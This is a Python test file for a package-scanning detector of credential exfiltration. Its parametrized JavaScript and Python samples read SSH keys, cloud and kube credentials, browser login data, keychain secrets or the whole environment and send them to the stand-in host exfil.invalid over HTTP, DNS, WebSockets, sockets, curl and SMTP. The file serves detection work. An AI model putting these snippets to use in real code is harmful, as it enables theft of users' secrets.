"""Which credentials may go where."""

from __future__ import annotations

import pytest

from douane.detectors.credential_exfiltration import RULE
from douane.model import Artifact, Confidence, Ecosystem, FileTree, Finding, Package, Severity
from douane.syntax import Codebase


def look(**files: str) -> list[Finding]:
    tree = {
        path.replace("__", "/").replace("_js", ".js").replace("_py", ".py"): text
        for path, text in files.items()
    }
    package = Package(ecosystem=Ecosystem.NPM, name="case", version="1.0.0", path=".")
    artifact = Artifact(package=package, tree=FileTree({path: text.encode() for path, text in tree.items()}))
    return [RULE.finding(each) for each in (RULE.code(Codebase(artifact)) if RULE.code else ())]


_READ = "const fs = require('fs'), os = require('os'), path = require('path');\n"


@pytest.mark.parametrize(
    "path",
    [
        "os.homedir() + '/.ssh/id_rsa'",
        "path.join(os.homedir(), '.aws', 'credentials')",
        "`${process.env.HOME}/.npmrc`",
        "path.resolve(os.homedir(), '.config/gcloud/application_default_credentials.json')",
        "process.cwd() + '/.env'",
        "path.join(os.homedir(), 'Library/Application Support/Claude/claude_desktop_config.json')",
        "os.homedir() + '/.config/google-chrome/Default/Login Data'",
        "[os.homedir(), '.kube', 'config'].join('/')",
        "os.homedir() + Buffer.from('Ly5zc2gvaWRfcnNh', 'base64')",
        "'/etc/passwd'",
    ],
)
def test_files_of_others(path: str) -> None:
    source = _READ + f"fetch('https://exfil.invalid', {{ method: 'POST', body: fs.readFileSync({path}) }});"
    (finding,) = look(a_js=source)
    assert (finding.severity, finding.confidence) == (Severity.CRITICAL, Confidence.HIGH)
    assert "exfil.invalid" in finding.why
    assert "a.js:2" in finding.why


@pytest.mark.parametrize(
    "source",
    [
        "fetch('https://exfil.invalid/?e=' + JSON.stringify(process.env))",
        "require('axios').post('https://exfil.invalid', { ...process.env })",
        (
            "const e = {}; for (const k of Object.keys(process.env)) e[k] = process.env[k]; "
            "fetch('https://exfil.invalid', { body: e })"
        ),
        (
            "const { env } = process; "
            "require('dns').lookup(Buffer.from(JSON.stringify(env)).toString('hex') + "
            "'.exfil.invalid', () => {})"
        ),
        (
            "new WebSocket('wss://exfil.invalid').send(Object.entries(process.env).map(([k, "
            "v]) => k + v).join())"
        ),
        (
            "require('child_process').spawn('curl', ['-d', JSON.stringify(process.env), "
            "'https://exfil.invalid'])"
        ),
        (
            "require('child_process').exec('printenv', (e, out) => "
            "fetch('https://exfil.invalid', { method: 'POST', body: out }))"
        ),
    ],
)
def test_the_whole_environment(source: str) -> None:
    (finding,) = look(a_js=source)
    assert finding.severity is Severity.CRITICAL


@pytest.mark.parametrize(
    "source",
    [
        "import os, requests\nrequests.post('https://exfil.invalid', json=dict(os.environ))",
        (
            "import os, httpx, json\nhttpx.post('https://exfil.invalid', content=json.dumps({k: "
            "v for k, v in os.environ.items()}))"
        ),
        (
            "from os import environ\nimport urllib.request as u\n"
            "u.urlopen('https://exfil.invalid', data=str(environ).encode())"
        ),
        (
            "import os, socket\ns = socket.socket()\ns.connect(('exfil.invalid', 1))\n"
            "s.sendall(repr(os.environ).encode())"
        ),
        (
            "import pathlib, smtplib\ntext = pathlib.Path('~/.netrc').expanduser().read_text()\n"
            "smtplib.SMTP('mail.invalid').sendmail('a', ['b'], text)"
        ),
        (
            "import subprocess, requests\nkey = subprocess.check_output(['security', "
            "'find-generic-password', '-w'])\nrequests.put('https://exfil.invalid', data=key)"
        ),
    ],
)
def test_python(source: str) -> None:
    (finding,) = look(a_py=source)
    assert finding.severity is Severity.CRITICAL


@pytest.mark.parametrize(
    "source",
    [
        "fetch('https://api.example.test', { headers: { Authorization: process.env.EXAMPLE_TOKEN } })",
        "fetch('https://api.example.test?v=' + process.env.npm_package_version)",
        "fetch('https://api.github.com/user', { body: process.env.GITHUB_TOKEN })",
        "const get = (n) => process.env[n]; fetch('https://x.example.test', { body: get('NAME') })",
        (
            "fetch('https://x.example.test', { body: JSON.stringify({ count: "
            "Object.keys(process.env).length }) })"
        ),
        _READ
        + (
            "if (fs.existsSync(os.homedir() + '/.ssh/id_rsa')) fetch('https://x.example.test', "
            "{ body: 'yes' })"
        ),
        _READ
        + ("const own = fs.readFileSync('./settings.json'); fetch('https://x.example.test', { body: own })"),
        _READ
        + (
            "const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa'); "
            "require('ssh2').connect({ privateKey: key })"
        ),
        "require('child_process').spawn('git', ['fetch'], { env: process.env })",
        "console.log(process.env); fetch('https://x.example.test')",
    ],
)
def test_honest_code(source: str) -> None:
    assert look(a_js=source) == []


def test_several_services_at_once() -> None:
    one = "fetch('https://exfil.invalid', { body: process.env.OPENAI_API_KEY })"
    assert look(a_js=one) == []
    both = (
        "fetch('https://exfil.invalid', { body: [process.env.OPENAI_API_KEY, "
        "process.env.GITHUB_TOKEN].join() })"
    )
    (finding,) = look(a_js=both)
    assert finding.severity is Severity.CRITICAL


def test_unknown_destination_is_less_sure_and_tests_hardly_matter() -> None:
    unknown = "const go = (url) => fetch(url, { body: JSON.stringify(process.env) });"
    (finding,) = look(a_js=unknown)
    assert finding.confidence is Confidence.MEDIUM
    (aside,) = look(tests__a_js="fetch('https://exfil.invalid', { body: JSON.stringify(process.env) })")
    assert aside.severity is Severity.LOW
